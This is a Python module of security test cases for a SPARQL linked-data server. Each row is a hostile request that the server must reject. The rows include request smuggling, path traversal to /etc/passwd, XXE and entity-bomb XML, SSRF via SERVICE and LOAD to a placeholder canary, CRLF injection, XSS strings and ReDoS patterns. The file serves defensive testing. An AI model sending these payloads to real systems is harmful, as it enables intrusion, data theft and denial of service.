"""Attacks on a server, one a row: what is sent, what must come back, what must not.

`@CANARY@` stands for the address of a listener that nobody may ever contact, `@TOKEN@` for the
token of the writable server. Whatever is sent as bytes is sent as it stands.
"""

import json
from collections.abc import Iterable
from dataclasses import dataclass, field
from urllib.parse import quote, urlencode

from clusterkg.namespaces import BASE, expand

RDF = 'xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#"'
EVIL = "/page/thing/evil"
EVIL_IRI = f"{BASE}id/thing/evil"
LONG = "x" * 100_000
FAR = "evil.example"


@dataclass(frozen=True)
class Sent:
    """A fair request."""

    method: str
    target: str
    body: bytes = b""
    headers: tuple[tuple[str, str], ...] = ()

    def written(self, token: str = "", canary: str = "") -> bytes:
        """Write it down, to be answered and closed."""
        lines = [f"{self.method} {self.target} HTTP/1.1",
                 *(f"{name}: {value}" for name, value in self.headers),
                 "Host: 127.0.0.1", "Connection: close"]
        lines = lines[:-2] + lines[-1:] if "host" in dict(self.headers) else lines
        if self.body or self.method in ("POST", "PUT"):
            body = self.body.replace(b"@CANARY@", canary.encode())
            lines.append(f"Content-Length: {len(body)}")
        head = "\r\n".join([*lines, "", ""]).replace("@CANARY@", quote(canary, safe=""))
        return head.replace("@TOKEN@", token).encode("latin-1") + (body if self.body else b"")


@dataclass(frozen=True)
class Attack:
    """One row; each of `sent` must be answered by one of `statuses`, with `has`, without `lacks`.

    Status 0 is a connection that is closed without a word.
    """

    name: str
    statuses: tuple[int, ...]
    sent: tuple[Sent | bytes, ...]
    lacks: tuple[bytes, ...] = ()
    has: bytes = b""
    writing: bool = field(default=False)


def _given(headers: dict[str, str]) -> tuple[tuple[str, str], ...]:
    return tuple((name.replace("_", "-"), value) for name, value in headers.items())


def get(target: str, **headers: str) -> Sent:
    return Sent("GET", target, b"", _given(headers))


def ask(text: str | bytes, kind: str = "application/sparql-query", more: str = "") -> Sent:
    body = text if isinstance(text, bytes) else text.encode()
    return Sent("POST", f"/sparql{more}", body, (("content-type", kind),))


def short(text: str) -> Sent:
    """Ask for at most half a second."""
    return ask(text, more="?timeout=0.5")


def form(**fields: str) -> Sent:
    return ask(urlencode(fields), "application/x-www-form-urlencoded")


def put(body: str | bytes, kind: str = "text/turtle", graph: str = "urn:x",
        token: str = "Bearer @TOKEN@") -> Sent:
    return Sent("PUT", f"/store?graph={quote(graph, safe='')}",
                body if isinstance(body, bytes) else body.encode(),
                (("content-type", kind), ("authorization", token)))


def update(text: str) -> Sent:
    return Sent("POST", "/sparql", text.encode(), (("content-type", "application/sparql-update"),
                                                   ("authorization", "Bearer @TOKEN@")))


def reconciled(body: str | bytes, path: str = "") -> Sent:
    kind = "application/json" if path else "application/x-www-form-urlencoded"
    return Sent("POST", f"/reconcile{path}", body if isinstance(body, bytes) else body.encode(),
                (("content-type", kind),))


def post(rest: bytes) -> bytes:
    """Begin a POST by hand."""
    return b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Type: application/sparql-query\r\n" + rest


def chunked(rest: bytes) -> bytes:
    return post(b"Transfer-Encoding: chunked\r\n\r\n" + rest)


def line(*headers: bytes, first: bytes = b"GET /health/live HTTP/1.1") -> bytes:
    return b"\r\n".join([first, b"Host: x", *headers, b"Connection: close", b"", b""])


def each(targets: Iterable[str], **headers: str) -> tuple[Sent, ...]:
    return tuple(get(target, **headers) for target in targets)


def asked(texts: Iterable[str]) -> tuple[Sent, ...]:
    return tuple(ask(text) for text in texts)


def doubled(step: str, times: int) -> str:
    binds = " ".join(f"BIND({step.format(f'?x{n}')} AS ?x{n + 1})" for n in range(times))
    return f'SELECT (STRLEN(?x{times}) AS ?n) {{ BIND("{"a" * 100}" AS ?x0) {binds} }}'


OTHER = "{ ?s ?p ?o }"
EVERYTHING = "{ ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }"
INSERT = "INSERT DATA { <urn:a> <urn:b> <urn:c> }"
ADDRESSES = ("/", "/sparql", "/queries", "/openapi.json", "/catalogue", "/void", "/context.jsonld",
             "/.well-known/void", "/id/thing/evil", EVIL, "/data/thing/evil.ttl", "/ns", "/nothing",
             "/queries/firms/run", "/shapes", "/dumps/x")
ACCEPTS = ("text/html," * 2500, "*/*;q=1e309", "text/html;q=-1", "*/html", ";;;", ",,",
           "text/turtle;q=\xff", "\xe9/\xe9", "*/*;q=0", "TEXT/HTML", "text/*;q=0.5,*/*;q=0",
           "text/html;q=0.0000001", "a/b;" * 5000, '"text/html"', "text/html;level=1;q=", "\t")
STRANGER = {"host": FAR, "x_forwarded_host": FAR, "x_forwarded_proto": FAR, "forwarded":
            f"host={FAR}", "x_forwarded_for": FAR, "x_original_url": f"/{FAR}",
            "x_rewrite_url": f"//{FAR}", "x_forwarded_prefix": f"//{FAR}"}
CLIMBING = ("/data/../../etc/passwd", "/data/..%2f..%2fetc/passwd", "/data/..%5c..%5cetc%5cpasswd",
            "/data/%2e%2e/%2e%2e/etc/passwd", "/data/....//....//etc/passwd",
            "/page/../../etc/passwd", "/dumps/../manifest.json", "/dumps/..%2fmanifest.json",
            "/dumps/%2e%2e%2fmanifest.json",
            "/dumps/..%252fmanifest.json", "/queries/../../firms/run", "/queries/..%2ffirms",
            "/style.css/../../x", "/problem/..%2f..%2fmanifest", "/dumps//etc/passwd")
SERVICES = tuple(text.replace("@", "<@CANARY@>") for text in (
    "ASK { SERVICE @ {} }", "ASK { SERVICE SILENT @ {} }", "ASK {SERVICE@{?s ?p ?o}}",
    "ASK { VALUES ?x { @ } SERVICE ?x { ?s ?p ?o } }", "ASK { { SELECT * { SERVICE @ {} } } }",
    "ASK { FILTER EXISTS { SERVICE @ {} } }", "ASK { sErViCe @ {} }", "ASK {{} UNION{SERVICE @{}}}",
    "ASK { SERVICE#\n@#\n{} }", "ASK { OPTIONAL{}.SERVICE @ {} }", "DESCRIBE ?a { SERVICE @ {} }",
    "CONSTRUCT { ?s ?p ?o } { SERVICE @ { ?s ?p ?o } }",
    'ASK { VALUES ?x {"""a" } SERVICE @ {}#"""\n}',
    "ASK { MINUS { SERVICE @ {} } }", "ASK { GRAPH ?g { SERVICE @ {} } }"))
DEEP = tuple(f"ASK {{ {text} }}" for text in (
    f"FILTER({'(' * 600}1{')' * 600})", f"{'{' * 10_000}{'}' * 10_000}",
    "{} UNION " * 10_000 + "{}", f"FILTER({'! ' * 9_900}true)",
    f"{'[] a [ a ' * 5_000}1{']' * 5_000}",
    f"?s {'(' * 5_000}<urn:p>{')*' * 5_000} ?o", f"FILTER({'!' * 1_000_000}true)"))
WIDE = tuple(f"ASK {{ {text} }}" for text in (
    f"FILTER({'1+' * 4_900}1)", f"?s {'^' * 9_000}<urn:p> ?o", f"FILTER({'-' * 9_000}1)",
    f"?s <urn:p> ?o {';' * 9_900}", "OPTIONAL { ?s <urn:q> ?x } " * 900,
    " ".join(f"BIND({n} AS ?x{n})" for n in range(1_600)), f"VALUES ?x {{ {'1 ' * 9_000} }}"))
HOSTILE = ("urn:x> ?o } UNION { ?s ?p ?o", "<script>alert(1)</script>", "\0", "\u202e", "}} #",
           "https://x.example/> } ?s ?p ?o { <urn:x")
GUESSES = ("", "Bearer", "Bearer wrong-token-0123456789", "Basic @TOKEN@", "@TOKEN@",
           "Bearer @TOKEN@x", "Bearer @TOKEN@, Bearer @TOKEN@", "Bearer  ", "Token @TOKEN@")
PROTECTED = tuple(map(expand, ("graph:ontology", "graph:inferred", "graph:description", "graph:d",
                               "graph:evil")))
BOMBS = {
    "a billion laughs": ("application/rdf+xml", '<!DOCTYPE r [<!ENTITY a "aaaa">' + "".join(
        f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(10))
        + f"]><r:RDF {RDF}>&k;</r:RDF>"),
    "one entity, very often": ("application/rdf+xml", f'<!DOCTYPE r [<!ENTITY a "{"a" * 50_000}">]>'
                               f"<r:RDF {RDF}>{'&a;' * 50_000}</r:RDF>"),
    "an external entity": ("application/rdf+xml", f'<!DOCTYPE r [<!ENTITY a SYSTEM "@CANARY@">]>'
                           f"<r:RDF {RDF}><r:Description><r:value>&a;</r:value></r:Description>"
                           "</r:RDF>"),
    "a file as entity": ("application/rdf+xml", '<!DOCTYPE r [<!ENTITY a SYSTEM '
                         f'"file:///etc/passwd">]><r:RDF {RDF}><r:Description><r:value>&a;'
                         "</r:value></r:Description></r:RDF>"),
    "an external document type": ("application/rdf+xml", '<!DOCTYPE r SYSTEM "@CANARY@"><r:RDF '
                                  f"{RDF}><r:Description><r:value>&a;</r:value></r:Description>"
                                  "</r:RDF>"),
    "a parameter entity": ("application/rdf+xml", '<!DOCTYPE r [<!ENTITY % a SYSTEM "@CANARY@"> %a;'
                           f"]><r:RDF {RDF}/>"),
    "a remote context": ("application/ld+json", '{"@context": "@CANARY@", "@id": "urn:a"}'),
    "a remote context within": ("application/ld+json", '{"@context": [{"@import": "@CANARY@"}], '
                                '"@id": "urn:a", "urn:p": {"@context": "@CANARY@", "urn:q": 1}}'),
    "deep JSON": ("application/ld+json", '{"urn:p":' * 100_000 + "1" + "}" * 100_000),
    "deep lists of JSON": ("application/ld+json", "[" * 100_000 + "]" * 100_000),
    "deep XML": ("application/rdf+xml", f"<r:RDF {RDF} xmlns:e='urn:e:'>" + "<e:A><e:p>" * 50_000),
    "XML that is cut off": ("application/rdf+xml", f"<r:RDF {RDF}><r:Description r:about='urn:a'>"
                            "<r:value>1</r:value>"),
    "deep triple terms": ("text/turtle", "<urn:s> <urn:p> " + "<<( <urn:a> <urn:b> " * 100_000
                          + "<urn:c>" + " )>>" * 100_000 + " ."),
    "deep terms behind an escape": (
        "application/n-triples", "<urn:s> <urn:p> " + "<<( <urn:a> <urn:\\u0041#> " * 50_000
        + "<urn:c>" + " )>>" * 50_000 + " ."),
    "deep terms behind a carriage return": (
        "text/turtle", "# x\r<urn:s> <urn:p> " + "<<( <urn:a> <urn:b> " * 50_000 + "<urn:c>"
        + " )>>" * 50_000 + " ."),
    "lists that do not end": ("text/turtle", "<urn:s> <urn:p> " + "( " * 200_000),
    "brackets that do not end": ("text/turtle", "<urn:s> <urn:p> " + "[ <urn:p> " * 100_000),
    "nothing but zeros": ("text/turtle", "\0" * 100_000),
}

ATTACKS = [
    # What is no fair HTTP
    Attack("two lengths", (400,), (post(b"Content-Length: 3\r\nContent-Length: 4\r\n\r\nabcd"),
                                   post(b"Content-Length: 3, 4\r\n\r\nabcd"))),
    Attack("two lengths that agree", (400,),
           (post(b"Content-Length: 6\r\nContent-Length: 6\r\n\r\nASK {}"),)),
    Attack("a length and chunks", (400,), (
        post(b"Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
        post(b"Transfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n"))),
    Attack("a smuggled second request", (400,), (
        post(b"Content-Length: 40\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
             b"GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n"),), lacks=(b"smuggled",)),
    Attack("an encoding that is not known", (400, 501), (
        post(b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"),
        post(b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n"),
        post(b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n"))),
    Attack("a chunk that overflows", (400, 413), (
        chunked(b"FFFFFFFFFFFFFFFFF\r\n"), chunked(b"FFFFFFFFFFFFFFFF\r\n" + b"a" * 5_000_000),
        chunked(b"10000000000000003\r\nabc\r\n0\r\n\r\n"))),
    Attack("a chunk that is no number", (400,), (chunked(b"-1\r\n"), chunked(b"0x3\r\nabc\r\n"),
                                                 chunked(b"zz\r\n"), chunked(b"3 a\r\nabc\r\n"))),
    Attack("a length that is no number", (400, 413), tuple(
        post(b"Content-Length: %s\r\n\r\nabcde" % said)
        for said in (b"+5", b"-5", b"0x5", b"5 5", b"1" + b"0" * 30, b"5,"))),
    Attack("a gigabyte announced", (413,), (post(b"Content-Length: 1000000000\r\n\r\n"),)),
    Attack("a packed body", (415,), (Sent("POST", "/sparql", b"\x1f\x8b" + b"\0" * 100, (
        ("content-type", "application/sparql-query"), ("content-encoding", "gzip"))),)),
    Attack("a target of 100 KB", (414,), (get(f"/{LONG}"), get(f"/sparql?query={LONG}"))),
    Attack("a header of 100 KB", (431,), (get("/", x=LONG), get("/", accept=LONG))),
    Attack("a thousand headers", (431,),
           (line(*(b"X%d: a" % n for n in range(1000))), line(*[b"X: a"] * 1000))),
    Attack("a head that is no head", (400,), (
        line(b"X: a\r\n b"), line(b"X: a\0b"), line(b"X: a\rb"), line(b"X : a"), line(b"X"),
        line(b": a"), line(b"X\0: a"), b"GET / HTTP/1.1\nHost: x\n\n")),
    Attack("another protocol", (400, 405, 505), (
        b"GET /\r\n\r\n", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"GET / HTTP/9.9\r\nHost: x\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 100, b"EHLO x\r\n\r\n",
        b"\0" * 1000, b"GET / HTTX/1.1\r\nHost: x\r\n\r\n")),
    Attack("no host, or two", (400,), (
        b"GET / HTTP/1.1\r\n\r\n", line(b"Host: y"))),
    Attack("an unfit method", (400, 404, 405), (
        line(first=b"CONNECT evil.example:80 HTTP/1.1"), line(first=b"TRACE / HTTP/1.1"),
        line(first=b"PROPFIND / HTTP/1.1"), line(first=b"BREW / HTTP/1.1"),
        line(first=b"get / HTTP/1.1"), line(first=b"PATCH /sparql HTTP/1.1"))),
    Attack("a target that names a host", (200, 400, 404),
           (line(first=b"GET http://evil.example/ HTTP/1.1"),
            line(first=b"GET //evil.example/ HTTP/1.1")), lacks=(FAR.encode(),)),
    Attack("an unfit expectation", (417,), (line(b"Expect: 200-maybe"),)),
    Attack("another protocol offered", (200, 400), (
        line(b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABkAAQAAP__"),
        line(b"Upgrade: websocket", b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="))),
    Attack("a host and proxies that are strangers", (200, 303, 404, 503),
           each(ADDRESSES, **STRANGER), lacks=(FAR.encode(),)),
    Attack("an id that is more than that", (200,), (line(b"X-Request-Id: a<b>"), line(
        b"X-Request-Id: " + b"a" * 70), line(b"X-Request-Id: \xff")), lacks=(b"a<b>", b"a" * 70)),
    Attack("a method that another name hides", (200, 404),
           (get("/health/live", x_http_method_override="DELETE", x_method_override="PUT"),)),

    # Paths
    Attack("paths that climb", (400, 404), each(CLIMBING), lacks=(b"root:", b'"built"', b"PREFIX")),
    Attack("a NUL in a path", (400, 404), each(("/data/%00", "/data/x%00.ttl", "/queries/firms%00",
                                               "/dumps/%00", "/page/thing/evil%00"))),
    Attack("a path that is no UTF-8", (400, 404), (*each((
        "/data/%c0%ae%c0%ae/x", "/page/%ff", "/page/%ed%a0%80")), line(
            first=b"GET /page/\xff\xfe HTTP/1.1"))),
    Attack("a path that is decoded once", (404,), each(("/%2573parql", "/queries%252ffirms",
                                                       "/data/thing%252fevil"))),
    Attack("a broken escape", (400, 404), each(("/page/%zz", "/%", "/data/%2"))),
    Attack("five thousand segments", (404, 414), each(("/a" * 5000, "/data" * 3000, "/." * 9000))),
    Attack("near misses", (404,), each(("/SPARQL", "/sparql;x", "/queries/firms/run/x", "/health",
                                       "/store/", "/Health/live", "/sparql/x/y"))),
    Attack("an open redirect", (200, 303, 400, 404), each((
        "//evil.example/x", "/%2fevil.example", "/id//evil.example", "/id/%2f%2fevil.example/x",
        "/id/thing/..%2f..%2f%2fevil.example", "/\\evil.example", "/id/x?next=http://evil.example",
        "/.well-known/void?url=//evil.example")), lacks=(b"location: //", b"location: http://evil",
                                                         b"Location: //", b'href="//')),
    Attack("a new line on its way to a header", (200, 303, 400, 404, 422), each((
        "/id/thing/x%0d%0aSet-Cookie:a=b", "/queries/firms/run.csv?x=%0d%0aSet-Cookie:a=b",
        "/queries/firms/run.json?page_size=1&zzz=%0d%0aSet-Cookie:a=b", "/ns/%0d%0aSet-Cookie:a=b",
        "/queries/firms%0d%0aSet-Cookie:a=b/run")), lacks=(b"\nSet-Cookie",)),
    Attack("an IRI that would run", (400, 404), each((
        "/id/javascript:alert(1)", "/page/javascript:alert(1)", "/data/data:text%2fhtml,x",
        "/why?s=javascript:alert(1)&p=urn:p&o=urn:o", "/search?q=evil&among=javascript:alert(1)"),
        accept="text/html"), lacks=(b'"javascript:',)),

    # Accept
    Attack("an Accept that is none", (200, 303, 404, 406), tuple(
        get(path, accept=said) for said in ACCEPTS
        for path in ("/id/thing/evil", "/sparql?query=ASK%7B%7D", "/nothing"))),
    Attack("results as a page", (406,), (get("/sparql?query=" + quote(
        'SELECT ("<script>alert(1)</script>" AS ?x) {}'), accept="text/html"),),
        lacks=(b"<script>",), has=b"sparql-results"),
    Attack("a range of what has none", (200, 404), (
        get("/openapi.json", range="bytes=0-0,-1"), get("/dumps/x", range="bytes=9-1"))),

    # SPARQL
    Attack("an update by GET", (400,), each((f"/sparql?update={quote(INSERT)}",
                                            f"/sparql?query={quote(INSERT)}"))),
    Attack("an update where one may only read", (403,), (
        form(update=INSERT), ask(INSERT, "application/sparql-update"), form(update="CLEAR ALL"))),
    Attack("an update in disguise", (400, 403), (
        *asked((INSERT, f"\ufeff{INSERT}", f"#ASK {{}}\r{INSERT}", f"ASK {{}} ; {INSERT}")),
        form(query="ASK {}", update=INSERT), ask("ASK {}", more=f"?update={quote(INSERT)}"))),
    Attack("SERVICE in every spelling", (400, 403), asked(SERVICES)),
    Attack("SERVICE behind an escape", (400, 403), asked((
        "ASK { ser\\u0076ice <@CANARY@> {} }", "ASK { SERVICE <\\u0068ttp://127.0.0.1/> {} }"))),
    Attack("LOAD", (403,), (form(update="LOAD <@CANARY@>"), form(update="LOAD SILENT <@CANARY@>"),
                            form(update="LOAD <file:///etc/passwd> INTO GRAPH <urn:x>"))),
    Attack("a graph that lies elsewhere", (200,), (
        *asked(("SELECT * FROM <@CANARY@> { ?s ?p ?o }", "SELECT * FROM NAMED <@CANARY@> "
                "{ GRAPH ?g { ?s ?p ?o } }", "SELECT * FROM <file:///etc/passwd> { ?s ?p ?o }")),
        *each(("/sparql?query=ASK%7B%3Fs%20%3Fp%20%3Fo%7D&default-graph-uri=@CANARY@",
               "/sparql?query=ASK%7B%3Fs%20%3Fp%20%3Fo%7D&named-graph-uri=file:///etc/passwd"))),
        lacks=(b"root:", b"true")),
    Attack("a graph of a store that lies elsewhere", (404,),
           each(("/store?graph=@CANARY@", "/store?graph=file:///etc/passwd")), lacks=(b"root:",)),
    Attack("nesting that no parser survives", (400, 413), asked(DEEP)),
    Attack("text that is as long as is allowed", (200, 400), asked(WIDE)),
    Attack("a hundred thousand values", (400,), asked((
        f"SELECT * {{ VALUES ?x {{ {' '.join(map(str, range(100_000)))} }} }}",))),
    Attack("everything four times", (503,), (short(f"SELECT (COUNT(*) AS ?n) {EVERYTHING}"),)),
    Attack("everything sorted", (422, 503), (short(f"SELECT * {EVERYTHING} ORDER BY ?a ?f ?i"),)),
    Attack("paths of any length", (422, 503), (short(
        "SELECT (COUNT(*) AS ?n) { ?a (<urn:p>|!<urn:q>)* ?b . ?c (<urn:p>|!<urn:r>)* ?d . "
        "?e !<urn:q>* ?f }"),)),
    Attack("everything in one string", (422, 503), (short(
        f"SELECT (GROUP_CONCAT(?c; separator='{'x' * 1000}') AS ?n) {EVERYTHING}"),)),
    Attack("a string that doubles", (422, 503), (short(doubled("CONCAT({0}, {0})", 39)),)),
    Attack("a string that grows by being replaced", (422, 503),
           (short(doubled(f"REPLACE({{0}}, 'a', '{'a' * 40}')", 9)),)),
    Attack("an expression that backtracks", (200, 422, 503), (
        short('ASK { FILTER REGEX("' + "a" * 5000 + '!", "(a+)+$") }'),
        short('ASK { FILTER REGEX("a", "((a{1000}){1000}){1000}") }'),
        short('ASK { FILTER REGEX("a", "' + "a?" * 50_000 + '") }')), lacks=(b"Traceback",)),
    Attack("a limit beyond all numbers", (200, 400), asked((
        "SELECT * { ?s ?p ?o } LIMIT 99999999999999999999", "SELECT * { ?s ?p ?o } OFFSET "
        "18446744073709551615 LIMIT 18446744073709551615", "SELECT * {} LIMIT -1"))),
    Attack("a timeout that is none", (400,), each(
        f"/sparql?query=ASK%7B%7D&timeout={said}" for said in ("-1", "NaN", "0", "x", "1e-400"))),
    Attack("text that no file holds", (200, 400), (
        *asked(("ASK { ?s ?p '\0' }", "ASK { '\\uD800' ?p ?o }", "ASK { ?s ?p '\u202e\u200b' }")),
        ask(b"ASK { ?s ?p '\xed\xa0\x80' }"), ask(b"ASK {} #\xff"))),
    Attack("functions that are not there", (400,), asked((
        "SELECT (<http://x.example/f>(1) AS ?y) {}", "SELECT (<http://x.example/f>(DISTINCT ?s) AS "
        "?y) { ?s ?p ?o } GROUP BY ?p"))),
    Attack("sixty thousand fields", (400, 413), (ask("&".join(
        f"a{n}=1" for n in range(60_000)), "application/x-www-form-urlencoded"),)),

    # Questions and pages
    Attack("parameters of a question", (404, 422), each(
        f"/queries/firms/run.json?{said}" for said in (
            "page=0", "page=-1", "page=1e9", "page_size=1000000000", "lang=..%2Fx", "x=1", "page=a",
            "page=1&page=2", "page=99999999999999999999",
            "firm=%22%20.%20%7D%20DROP%20ALL%20%23"))),
    Attack("a format that is a path", (404, 406, 422), each((
        "/queries/firms/run.json?format=../../x", "/queries/firms/run.exe", "/queries/firms/run.",
        "/queries/firms/run.json.html", "/data/thing/evil.php"))),
    Attack("a value of a megabyte", (413, 414, 422), (Sent(
        "POST", "/queries/firms/run.json", b"firm=" + b"x" * 900_000,
        (("content-type", "application/x-www-form-urlencoded"),)),), lacks=(b"x" * 5000,)),
    Attack("a body that is no JSON", (400, 422), tuple(Sent(
        "POST", "/queries/firms/run.json", body, (("content-type", "application/json"),))
        for body in (b"[" * 100_000, b'{"a":' * 50_000, b"1e999999", b'{"page": 1e400}', b"\xff",
                     b'{"page": 1, "page": 2}', b"[]", b"null"))),
    Attack("a search for markup", (200, 400), each((
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/search?q=%22%20onload=x", "/search?q=%00",
        f"/search?q={quote('一' * 2000)}",
        "/sparql.html?query=%3C/textarea%3E%3Cscript%3Ealert(1)%3C/script%3E"),
        accept="text/html"), lacks=(b"<script>",)),
    Attack("labels with markup", (200,), each(
        (EVIL, "/search?q=alert", "/sources", "/page/ns", "/"), accept="text/html"),
           lacks=(b"<script>", b"<svg", b"<img", b'href="javascript:', b'href="data:',
                  b'href="vbscript:', b'href="file:')),
    Attack("labels with markup as data", (200,), each(
        ("/data/thing/evil.jsonld", "/data/thing/evil.ttl", "/data/thing/evil.rdf")),
        lacks=(b"content-type: text/html",), has=b"nosniff"),
    Attack("a page that is framed or sent elsewhere", (200,), each(
        (EVIL, "/", "/sparql.html", "/search?q=x"), accept="text/html"),
        has=b"frame-ancestors 'none'"),
    Attack("an error as a page", (400, 404, 405, 406), (
        *each(("/%3Cscript%3E", "/sparql?query=%3Cscript%3E"), accept="text/html"),
        Sent("DELETE", "/sparql", b"", (("accept", "text/html"),))),
        lacks=(b"<script>",), has=b"default-src 'none'"),
    Attack("another site that would write", (204,), (Sent("OPTIONS", "/store", b"", (
        ("origin", "http://evil.example"), ("access-control-request-method", "PUT"),
        ("access-control-request-headers", "authorization"))),),
        lacks=(b"llow-credentials", b"uthorization", FAR.encode())),

    # Reconciliation
    Attack("queries that are none", (400,), tuple(reconciled(body) for body in (
        b"", b"queries=", b"queries=%zz", b"queries=\xff\xfe", b"\0" * 100, b"queries=null",
        b"queries=" + b"[" * 200_000, b"queries=" + b'{"a":' * 50_000, b"extend=" + b"[" * 100_000,
        b'queries={"q":{"query":"x","limit":' + b"9" * 5000 + b"}}",
        *(b'queries={"q":{"query":"x",%s}}' % said for said in (
            b'"limit":-1', b'"limit":0', b'"limit":"3"', b'"type":1', b'"type":{}',
            b'"properties":[{"pid":"p","v":[[["x"]]]}]', b'"properties":[{"pid":1,"v":"x"}]'))))),
    Attack("queries without measure", (200,), tuple(
        reconciled(b'queries={"q":{"query":"firm","limit":%s}}' % said)
        for said in (b"1e9", b"1e999", b"0.5", b"99999999999999999999"))),
    Attack("ten thousand queries, or things", (413,), (
        reconciled(urlencode({"queries": json.dumps({str(n): {"query": "x"}
                                                     for n in range(10_000)})})),
        reconciled(json.dumps({"queries": [{"conditions": [{
            "matchType": "name", "propertyValue": "x"}]}] * 10_000}), "/match"),
        reconciled(json.dumps({"ids": [f"urn:{n}" for n in range(10_000)], "properties": []}),
                   "/extend"))),
    Attack("queries of another kind", (415,), (
        Sent("POST", "/reconcile", b"{}", (("content-type", "application/json"),)),
        Sent("POST", "/reconcile", b"--b\r\n\r\n--b--",
             (("content-type", "multipart/form-data; boundary=b"),)),
        Sent("POST", "/reconcile/match", b"queries={}", (
            ("content-type", "application/x-www-form-urlencoded"),)))),
    Attack("a property that would be a query", (200,), (
        *(reconciled(urlencode({"queries": json.dumps({"q": {"query": "firm", "properties": [
            {"pid": said, "v": said}]}})})) for said in HOSTILE),), lacks=(b"evil",)),
    Attack("values of what is no property", (200,), (reconciled(json.dumps({
        "ids": ["x", *HOSTILE], "properties": [{"id": said} for said in HOSTILE]}), "/extend"),),
        lacks=(b"alert(1)</h1>",), has=b'"values": []'),
    Attack("queries that call back", (200,), each((
        "/reconcile?callback=alert(1)", "/reconcile?callback=%3Cscript%3E&queries=%7B%7D")),
        has=b"application/json", lacks=(b"alert", b"<script>")),
    Attack("suggestions that are none", (200, 400, 404), each((
        "/reconcile/suggest/entity?prefix=%00", "/reconcile/suggest/entity?limit=1e9",
        "/reconcile/suggest/entity?prefix=a&cursor=-1", "/reconcile/suggest/..%2fx",
        "/reconcile/suggest/entity?prefix=a&cursor=999999",
        f"/reconcile/suggest/entity?prefix={'x' * 6000}", "/reconcile/suggest/%3Cscript%3E",
        "/reconcile/extend/propose?type=%3E%20%7D", "/reconcile/extend/propose?type=a%20b://c")),
        lacks=(b"<script>",)),
    Attack("suggestions for a megabyte", (414,),
           (get(f"/reconcile/suggest/entity?prefix={LONG * 10}"),)),
    Attack("a preview or view of what is not there", (404,), each(
        f"/reconcile/{what}?id={said}" for what in ("preview", "view")
        for said in ("", "urn:none", "javascript:alert(1)", "https://evil.example/", "@CANARY@",
                     "%3Cscript%3E", "%0d%0aSet-Cookie:a=b", "x" * 6000)),
        lacks=(b"\nSet-Cookie", b"location:", b"<script>")),
    Attack("a preview of labels with markup", (200,), each((
        f"/reconcile/preview?id={quote(EVIL_IRI, safe='')}",)),
        lacks=(b"<script>", b"<svg", b'href="javascript:'), has=b"frame-ancestors *"),
    Attack("another site that would match", (204,), (Sent("OPTIONS", "/reconcile/match", b"", (
        ("origin", "http://evil.example"), ("access-control-request-method", "POST"))),),
        lacks=(b"llow-credentials", FAR.encode()), has=b"POST"),

    # Writing
    Attack("writing where one may only read", (403,), (
        put("<urn:a> <urn:b> 1 ."), put("", token="Bearer x"),
        Sent("DELETE", "/store?graph=urn:x"))),
    Attack("a token that is guessed", (401,), tuple(
        put("<urn:a> <urn:b> 1 .", token=said) for said in GUESSES), writing=True,
        has=b'Bearer realm="clusterkg"', lacks=(b"@TOKEN@",)),
    Attack("a token in the address, a cookie or another header", (401,), (
        Sent("DELETE", "/store?graph=urn:x&token=@TOKEN@&access_token=@TOKEN@"),
        Sent("DELETE", "/store?graph=urn:x", b"", (("cookie", "token=@TOKEN@"),)),
        Sent("DELETE", "/store?graph=urn:x", b"", (("proxy-authorization", "Bearer @TOKEN@"),))),
        writing=True),
    Attack("a protected graph put", (403,), tuple(put("<urn:a> <urn:b> 1 .", graph=graph)
                                                 for graph in PROTECTED), writing=True),
    Attack("a protected graph deleted", (403,), tuple(
        Sent("DELETE", f"/store?graph={quote(graph, safe='')}", b"",
             (("authorization", "Bearer @TOKEN@"),)) for graph in PROTECTED), writing=True),
    Attack("a protected graph reached by an update", (403,), tuple(update(text) for text in (
        "CLEAR ALL", "DROP NAMED", "DELETE WHERE { GRAPH ?g { ?s ?p ?o } }",
        f"INSERT DATA {{ GRAPH <{PROTECTED[0]}> {{ <urn:a> <urn:b> 1 }} }}",
        f"ADD <{PROTECTED[3]}> TO <{PROTECTED[0]}>", f"CLEAR GRAPH <{PROTECTED[1]}>")),
        writing=True),
    Attack("LOAD by who may write", (403,), tuple(update(text) for text in (
        "LOAD <@CANARY@>", "LOAD <file:///etc/passwd> INTO GRAPH <urn:x>",
        "load silent <@CANARY@>")),
        writing=True, lacks=(b"root:",)),
    Attack("SERVICE in an update", (400, 403), tuple(update(text) for text in (
        f"INSERT {OTHER} WHERE {{ SERVICE <@CANARY@> {OTHER} }}",
        f"DELETE {OTHER} WHERE {{ SERVICE SILENT <@CANARY@> {OTHER} }}")), writing=True),
    Attack("a graph whose IRI is a path", (400,), tuple(
        put("<urn:a> <urn:b> 1 .", graph=graph) for graph in
        ("../x", "/etc/passwd", "x", "", "urn:" + "x" * 10_000, "urn:a b", "urn:\n", "urn:<x>")),
        writing=True),
    *(Attack(f"RDF that harms its reader: {name}", (400,), (put(body, kind),), writing=True,
             lacks=(b"root:",)) for name, (kind, body) in BOMBS.items()),
    Attack("a form that nests in itself", (400,), (put(b"".join(
        b"--%d\r\nContent-Type: multipart/mixed; boundary=%d\r\n\r\n" % (n, n + 1)
        for n in range(2000)), "multipart/form-data; boundary=0"),), writing=True),
]
